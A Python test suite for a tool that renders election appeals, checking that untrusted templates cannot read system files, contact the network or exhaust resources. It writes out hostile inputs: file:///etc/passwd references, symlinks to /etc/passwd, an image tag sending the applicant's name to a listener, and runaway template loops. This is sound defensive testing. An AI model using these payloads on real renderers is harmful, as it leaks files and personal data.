"""Templates and case texts from strangers: nothing read from outside the case and template
folders, nothing sent over the network, nothing embedded, no hang, no traceback."""

from __future__ import annotations

import io
import os
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader

from conftest import EXAMPLE, edit_case
from election_appeal import api
from election_appeal.render import env, limits

OVERRIDE = (
    '{{% extends "default:appeal.html.j2" %}}\n{{% block requests %}}\n{body}\n{{% endblock %}}\n'
)
REFUSED = (
    'appeal.html.j2: the address "{url}" was not loaded; documents may use only files of the '
    "template folders and of the case folder"
)


class Listener:
    """A server on the loopback interface that counts the connections made to it."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen()
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.socket.accept()
            except TimeoutError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.socket.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> dict:
    """The example rendered with a template and a case text that try every way out."""
    root = tmp_path_factory.mktemp("hostile")
    case = root / "case"
    shutil.copytree(EXAMPLE, case)
    Image.new("RGB", (4, 4), "red").save(case / "seal.png")
    (case / "outside.png").symlink_to("/etc/passwd")
    leak = f"http://127.0.0.1:{listener.port}"
    edit_case(case, lambda d: d.update(narrative={"facts": f"Фото: ![печать]({leak}/md.png)"}))
    templates = root / "templates"
    templates.mkdir()
    body = "\n".join(
        [
            '<img src="file:///etc/passwd">',
            '<link rel="attachment" href="file:///etc/hostname">',
            f'<a rel="attachment" href="file://{templates}/appeal.html.j2">x</a>',
            '<p style="background: url(file:///etc/hostname)">фон</p>',
            f'<img src="{leak}/?name={{{{ applicant.full_name|urlencode }}}}">',
            f'<img src="file://{case}/outside.png">',
            f'<img src="file://{case}/seal.png">',
        ]
    )
    (templates / "appeal.html.j2").write_text(OVERRIDE.format(body=body), encoding="utf-8")
    files = api.render(case, formats=("pdf",), templates=templates)
    return {"files": files, "case": case, "leak": leak, "templates": templates}


@pytest.mark.slow
def test_no_request_leaves_the_computer(hostile: dict, listener: Listener) -> None:
    time.sleep(0.3)  # let a late connection arrive, if one was made
    assert listener.connections == 0


@pytest.mark.slow
def test_nothing_is_embedded_in_the_pdf(hostile: dict) -> None:
    reader = PdfReader(io.BytesIO(hostile["files"]["appeal.pdf"]))
    assert reader.attachments == {}
    for page in reader.pages:
        for annotation in page.get("/Annots") or []:
            assert annotation.get_object()["/Subtype"] != "/FileAttachment"
    text = "".join(page.extract_text() for page in reader.pages)
    assert "root:x:0:0" not in text


@pytest.mark.slow
def test_an_image_of_the_case_folder_is_used(hostile: dict) -> None:
    reader = PdfReader(io.BytesIO(hostile["files"]["appeal.pdf"]))
    images = {(image.name, image.image.size) for page in reader.pages for image in page.images}
    assert [size for _, size in images] == [(4, 4)]  # the seal; nothing through the symlink


@pytest.mark.slow
def test_every_refused_address_is_a_warning(hostile: dict) -> None:
    case, leak = hostile["case"], hostile["leak"]
    refused = [
        "file:///etc/passwd",
        "file:///etc/hostname",
        f"{leak}/?name=%5B%D0%A4%D0%B0%D0%BC%D0%B8%D0%BB%D0%B8%D1%8F%20%D0%98%D0%BC%D1%8F%20%D0%9E%D1%82%D1%87%D0%B5%D1%81%D1%82%D0%B2%D0%BE%5D",
        f"file://{case}/outside.png",
    ]
    warnings = hostile["files"].warnings
    for url in refused:
        shown = url if len(url) <= 120 else url[:119] + "…"  # long addresses are shortened
        assert REFUSED.format(url=shown) in warnings
    markdown = (
        f'case.yaml (a picture in the text): the address "{leak}/md.png" was not loaded; '
        "documents may use only files of the template folders and of the case folder"
    )
    assert markdown in warnings


def _render_with(tmp_path: Path, body: str) -> api.Documents:
    templates = tmp_path / "templates"
    templates.mkdir(exist_ok=True)
    (templates / "appeal.html.j2").write_text(OVERRIDE.format(body=body), encoding="utf-8")
    return api.render(EXAMPLE, formats=("docx",), templates=templates)


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            "{{ appeal.place|date_long }}",
            "{templates}/appeal.html.j2, line 3: "
            "the filter \"date_long\" needs a date, not 'г. Алматы'",
        ),
        (
            "{% macro again() %}{{ again() }}{% endmacro %}{{ again() }}",
            "{templates}/appeal.html.j2, line 3: a macro or template calls itself without end",
        ),
        (
            '{{ "x" * 100000000 }}',
            "{templates}/appeal.html.j2, line 3: "
            "not allowed in a template (a value this large is not allowed)",
        ),
        (
            "{{ 10 ** 100000000 }}",
            "{templates}/appeal.html.j2, line 3: "
            "not allowed in a template (a power above 64 is not allowed)",
        ),
    ],
)
def test_a_runaway_template_is_stopped_with_its_name_and_line(
    tmp_path: Path, body: str, message: str
) -> None:
    with pytest.raises(api.AppealError) as caught:
        _render_with(tmp_path, body)
    assert str(caught.value) == message.format(templates=tmp_path / "templates")


def test_a_document_that_grows_without_end_is_stopped(tmp_path: Path, monkeypatch) -> None:
    # A smaller bound than the tool's 64 MiB: the same check, reached in a fraction of the time.
    monkeypatch.setattr(env, "MAX_OUTPUT_CHARS", 1024 * 1024)
    body = '{% set big = "x" * 100000 %}{% for i in range(100) %}{{ big }}{% endfor %}'
    with pytest.raises(api.AppealError) as caught:
        _render_with(tmp_path, body)
    assert str(caught.value) == (
        "appeal.html.j2: the document grows beyond 1,048,576 characters; "
        "a loop in the template may never end"
    )


def test_a_loop_without_end_is_stopped_in_time(tmp_path: Path, monkeypatch) -> None:
    # 10¹⁰ turns of the loop would take hours: the template ends only because it is stopped.
    monkeypatch.setattr(limits, "TIME_LIMIT_SECONDS", 1)
    body = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    with pytest.raises(api.AppealError) as caught:
        _render_with(tmp_path, body)
    assert str(caught.value) == (
        f"{tmp_path}/templates/appeal.html.j2, line 3: "
        "rendering appeal.html.j2 took longer than 1 s; a loop in the template may never end"
    )


def test_a_value_doubled_without_end_runs_out_of_its_memory(tmp_path: Path, monkeypatch) -> None:
    # Less headroom than the tool's 2 GiB: the same bound, reached sooner.
    monkeypatch.setattr(limits, "MEMORY_HEADROOM_BYTES", 512 * 1024**2)
    body = (
        '{% set ns = namespace(s="xxxxxxxx") %}'
        "{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}"
    )
    with pytest.raises(api.AppealError) as caught:
        _render_with(tmp_path, body)
    assert str(caught.value) == (
        f"{tmp_path}/templates/appeal.html.j2, line 3: "
        "rendering appeal.html.j2 needs too much memory"
    )


@pytest.mark.slow
def test_a_broken_image_of_the_case_is_an_error_naming_the_document(tmp_path: Path) -> None:
    case = tmp_path / "case"
    shutil.copytree(EXAMPLE, case)
    # A 1×1 PNG whose compressed image data does not decode to a whole image.
    broken = (
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201ff8a3d7b"
        "9a0000000049454e44ae426082"
    )
    (case / "seal.png").write_bytes(bytes.fromhex(broken))
    templates = tmp_path / "templates"
    templates.mkdir()
    body = f'<img src="file://{case}/seal.png">'
    (templates / "appeal.html.j2").write_text(OVERRIDE.format(body=body), encoding="utf-8")
    with pytest.raises(api.AppealError) as caught:
        api.render(case, formats=("pdf",), templates=templates)
    assert str(caught.value).startswith("appeal.html.j2: the document cannot be laid out (")


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (
            lambda folder: (folder / "evil.j2").symlink_to("/etc/passwd"),
            "{folder}/evil.j2: leads outside the template folder {folder}",
        ),
        (
            lambda folder: os.mkfifo(folder / "evil.j2"),
            "{folder}/evil.j2: not a regular file of at most 1,048,576 bytes",
        ),
        (
            lambda folder: (folder / "evil.j2").write_bytes(b"x" * (1024 * 1024 + 1)),
            "{folder}/evil.j2: not a regular file of at most 1,048,576 bytes",
        ),
        (
            lambda folder: (folder / "evil.j2").write_bytes("ошибка".encode("cp1251")),
            "{folder}/evil.j2: not UTF-8 text",
        ),
    ],
)
def test_an_included_file_must_be_a_template_of_the_folder(tmp_path: Path, make, message) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    make(folder)
    with pytest.raises(api.AppealError) as caught:
        _render_with(tmp_path, '{% include "evil.j2" %}')
    assert str(caught.value) == message.format(folder=folder)


@pytest.mark.slow
def test_html_the_word_document_cannot_show_stops_the_build_naming_it(tmp_path: Path) -> None:
    """Never a DOCX that silently lacks what the PDF shows; the element is found in the
    template before anything is rendered, and blamed on its line."""
    with pytest.raises(api.AppealError) as caught:
        _render_with(tmp_path, "<blockquote><p>Ответ прокуратуры от 1 марта</p></blockquote>")
    assert str(caught.value) == (
        f"{tmp_path}/templates/appeal.html.j2, line 3: the Word document cannot show the "
        "element <blockquote>: `appeal templates` lists the elements it shows"
    )
